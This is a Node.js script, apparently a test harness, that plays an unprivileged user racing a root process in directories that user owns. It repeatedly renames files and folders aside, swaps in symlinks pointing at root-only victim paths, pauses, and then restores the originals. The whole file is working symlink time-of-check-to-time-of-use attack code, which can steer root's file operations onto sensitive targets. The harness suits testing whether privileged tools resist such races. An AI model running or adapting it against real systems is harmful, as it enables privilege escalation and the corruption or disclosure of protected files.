// An ordinary user who owns directories in which root works, and exchanges whatever appears there for links to what is
// root's alone. Every exchange is undone a moment later, so that root comes to its next step.
// exchanger.mjs ROUNDS VICTIM_DIRECTORIES VICTIM_FILES KEEP DIRECTORY...
// Victims and KEEP, names that are left alone, are separated by commas; each exchange takes the next victim.
// Ends after so many rounds, or when it is told to.
import { lstatSync, readdirSync, renameSync, symlinkSync, unlinkSync } from 'node:fs'
import { join } from 'node:path'

const [rounds, victimDirectories, victimFiles, keep, ...directories] = process.argv.slice(2)
const victims = { directory: victimDirectories.split(','), file: victimFiles.split(',') }
const kept = new Set(keep.split(','))
let turn = 0

function attempt(work) {
  try {
    work()
    return true
  } catch {
    return false
  }
}

function exchange(path) {
  turn += 1
  // Every third time, or nothing would ever come about.
  if (turn % 3 !== 0) return
  const aside = `${path}.mine`
  let isDirectory = false
  if (!attempt(() => (isDirectory = lstatSync(path).isDirectory())) || !attempt(() => renameSync(path, aside))) return
  const aims = isDirectory ? victims.directory : victims.file
  attempt(() => symlinkSync(aims[Math.floor(turn / 3) % aims.length], path))
  for (let wait = 0; wait < (turn % 7) * 2000; wait += 1) lstatSync('/')
  attempt(() => unlinkSync(path))
  attempt(() => renameSync(aside, path))
}

function visit(directory, depth) {
  let names = []
  attempt(() => (names = readdirSync(directory)))
  for (const name of names) {
    if (kept.has(name) || name.endsWith('.mine')) continue
    const path = join(directory, name)
    exchange(path)
    if (depth > 0) visit(path, depth - 1)
  }
}

process.stdout.write('ready\n')
for (let round = 0; round < Number(rounds); round += 1) for (const directory of directories) visit(directory, 3)
